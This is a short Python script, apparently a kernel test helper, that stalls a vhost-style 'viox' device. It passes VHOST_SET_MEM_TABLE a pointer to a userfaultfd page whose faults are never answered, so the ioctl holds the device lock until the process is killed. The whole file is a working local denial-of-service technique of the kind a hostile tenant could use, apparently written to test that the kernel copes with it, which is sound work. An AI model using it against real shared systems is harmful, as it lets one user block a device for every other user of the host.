#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Stall a viox device the way a hostile tenant can.

Opens DEVICE, takes ownership, then calls VHOST_SET_MEM_TABLE with its
argument on a userfaultfd page whose faults nobody answers: the ioctl holds
the device's lock for as long as this process lives. Prints "stalled PID"
once the ioctl is under way, then waits to be killed.

usage: uffd-stall.py DEVICE
"""
import ctypes
import mmap
import os
import sys
import threading
import time

NR_USERFAULTFD = 323  # x86_64
UFFD_API = 0xAA
UFFDIO_REGISTER_MODE_MISSING = 1


def ioc(d, t, nr, size):
    return (d << 30) | (size << 16) | (t << 8) | nr


UFFDIO_API = ioc(3, 0xAA, 0x3F, 24)
UFFDIO_REGISTER = ioc(3, 0xAA, 0x00, 32)
VHOST_SET_OWNER = ioc(0, 0xAF, 0x01, 0)
VHOST_SET_MEM_TABLE = ioc(1, 0xAF, 0x03, 8)

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]


def check(r, what):
    if r < 0:
        e = ctypes.get_errno()
        sys.exit(f"uffd-stall: {what}: {os.strerror(e)}")
    return r


def main():
    dev = os.open(sys.argv[1], os.O_RDWR)
    check(libc.ioctl(dev, VHOST_SET_OWNER, None), "VHOST_SET_OWNER")

    uffd = check(libc.syscall(NR_USERFAULTFD, os.O_CLOEXEC), "userfaultfd")
    api = (ctypes.c_uint64 * 3)(UFFD_API, 0, 0)
    check(libc.ioctl(uffd, UFFDIO_API, ctypes.addressof(api)), "UFFDIO_API")
    page = mmap.mmap(-1, mmap.PAGESIZE)  # never touched: every access faults
    addr = ctypes.addressof(ctypes.c_char.from_buffer(page))
    reg = (ctypes.c_uint64 * 4)(addr, mmap.PAGESIZE,
                                UFFDIO_REGISTER_MODE_MISSING, 0)
    check(libc.ioctl(uffd, UFFDIO_REGISTER, ctypes.addressof(reg)),
          "UFFDIO_REGISTER")

    def stall():
        libc.ioctl(dev, VHOST_SET_MEM_TABLE, addr)

    threading.Thread(target=stall, daemon=True).start()
    # The ioctl is blocked once its thread sleeps in the fault handler.
    for _ in range(100):
        time.sleep(0.05)
        for tid in os.listdir("/proc/self/task"):
            with open(f"/proc/self/task/{tid}/wchan") as f:
                if "userfault" in f.read():
                    print(f"stalled {os.getpid()}", flush=True)
                    while True:
                        time.sleep(3600)
    sys.exit("uffd-stall: the ioctl never blocked on the userfaultfd page")


if __name__ == "__main__":
    main()
